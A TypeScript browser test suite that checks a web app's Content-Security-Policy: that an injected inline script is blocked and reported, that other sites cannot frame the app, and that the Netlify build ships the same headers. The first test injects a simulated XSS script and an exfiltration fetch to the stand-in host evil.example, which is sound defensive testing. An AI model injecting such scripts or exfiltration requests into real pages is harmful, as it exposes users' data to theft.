/**
 * The app under its Content-Security-Policy: an injected inline script does not run and is
 * reported (so the suites' CSP check can fail), other sites cannot frame the app, and the Netlify
 * build carries the same headers in dist/_headers.
 */
import { readFile } from 'node:fs/promises';
import path from 'node:path';
import { afterAll, beforeAll, expect, it } from 'vitest';
import type { Browser } from 'playwright-core';
import { startApp, type AppServer } from '../helpers/app-server.ts';
import { collectErrors, describeBrowser, launchBrowser } from '../helpers/browser.ts';
import { contentSecurityPolicy } from '../../netlify/lib/security-headers.ts';

describeBrowser('security headers and CSP', () => {
  let app: AppServer;
  let browser: Browser;
  beforeAll(async () => {
    app = await startApp();
    browser = await launchBrowser();
  });
  afterAll(async () => {
    await browser?.close();
    // This suite provokes violations on purpose: they must have been reported.
    await expect(app?.dispose()).rejects.toThrow(/Content-Security-Policy violations reported by the browser/);
  });

  it('an injected inline script (XSS) does not run, and the violation is reported', async () => {
    const context = await browser.newContext({ serviceWorkers: 'block' });
    const page = await context.newPage();
    const { cspViolations } = collectErrors(page);
    await page.goto(`${app.url}/`, { waitUntil: 'load' });
    await page.evaluate(() => {
      const s = document.createElement('script');
      s.textContent = 'window.__pwned = true';
      document.body.appendChild(s);
      // Exfiltration to another origin (images may come from any https address: catalogue images).
      void fetch('https://evil.example/collect').catch(() => undefined);
    });
    expect(await page.evaluate(() => (window as unknown as { __pwned?: boolean }).__pwned)).toBeUndefined();
    await expect.poll(() => cspViolations.length, { timeout: 10_000 }).toBeGreaterThanOrEqual(2);
    await expect
      .poll(async () => (await app.cspViolations()).map((v) => JSON.stringify(v)).join('\n'), { timeout: 15_000 })
      .toMatch(/script-src[\s\S]*evil\.example|evil\.example[\s\S]*script-src/);
    await context.close();
  });

  it('another site cannot frame the app (frame-ancestors none)', async () => {
    const context = await browser.newContext({ serviceWorkers: 'block' });
    const page = await context.newPage();
    await page.setContent(`<iframe id="f" src="${app.url}/login" width="600" height="400"></iframe>`);
    const frame = (await (await page.$('#f'))!.contentFrame())!;
    // Chromium replaces a refused frame with its error page instead of the app.
    await expect.poll(() => frame.url(), { timeout: 15_000 }).toMatch(/^chrome-error:/);
    expect(await frame.evaluate(() => document.body?.innerText ?? '').catch(() => '')).not.toContain('Sign In');
    await context.close();
  });

  it('the Netlify build writes the same headers to dist/_headers', async () => {
    const file = await readFile(path.resolve(import.meta.dirname, '../../dist/_headers'), 'utf8');
    expect(file).toContain(`Content-Security-Policy: ${contentSecurityPolicy(process.env.VITE_SUPABASE_URL)}`);
    expect(file).toContain('X-Content-Type-Options: nosniff');
  });
});
